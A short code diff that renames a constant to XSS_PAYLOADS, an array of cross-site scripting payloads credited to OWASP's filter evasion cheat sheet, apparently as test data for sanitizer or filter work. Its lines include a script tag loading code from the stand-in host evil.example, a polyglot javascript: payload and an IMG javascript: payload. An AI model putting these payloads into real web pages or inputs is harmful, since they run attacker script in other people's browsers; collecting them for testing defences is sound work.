@@ -1,5 +1,5 @@
 /** Classics of OWASP's XSS Filter Evasion Cheat Sheet, and of the literature on mutation XSS. */
-export const PAYLOADS = [
+export const XSS_PAYLOADS = [
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
   `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
   '<IMG SRC="javascript:alert(1);">',
